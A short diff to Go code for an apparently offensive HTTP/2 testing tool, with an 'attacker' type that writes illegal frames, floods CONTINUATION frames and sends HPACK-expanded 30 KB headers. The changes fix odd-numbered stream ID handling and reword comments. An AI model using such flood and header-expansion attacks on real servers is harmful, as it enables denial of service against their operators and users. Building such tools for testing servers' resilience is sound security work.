@@ -32,7 +32,7 @@ type attacker struct {
 	*http2.Framer
 	connection net.Conn
 	buffer     *bufio.Writer
-	stream     uint32 // the last one opened
+	stream     uint32 // the last one opened; those of clients are odd
 	header     bytes.Buffer
 	encoder    *hpack.Encoder
 }
@@ -43,7 +43,7 @@ func newAttacker(c *client) (*attacker, error) {
 	if err != nil {
 		return nil, err
 	}
-	a := &attacker{client: c, connection: connection, buffer: bufio.NewWriter(connection)}
+	a := &attacker{client: c, connection: connection, buffer: bufio.NewWriter(connection), stream: 1}
 	a.Framer = http2.NewFramer(a.buffer, nil)
 	a.AllowIllegalWrites = true
 	a.encoder = hpack.NewEncoder(&a.header)
@@ -87,8 +87,7 @@ func (a *attacker) open(end bool, fields ...hpack.HeaderField) error {
 			return err
 		}
 	}
-	a.stream = max(1, a.stream+2)
-	a.stream |= 1
+	a.stream += 2
 	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.header.Bytes(), EndStream: true, EndHeaders: end})
 }
 
@@ -149,7 +148,7 @@ func (a *attacker) floodContinuations() error {
 	})
 }
 
-// expandHeaders sends a field once, which a byte in each further header stands for.
+// expandHeaders sends headers of 30 KB, most of which a few bytes stand for.
 func (a *attacker) expandHeaders() error {
 	if err := a.start(0); err != nil {
 		return err
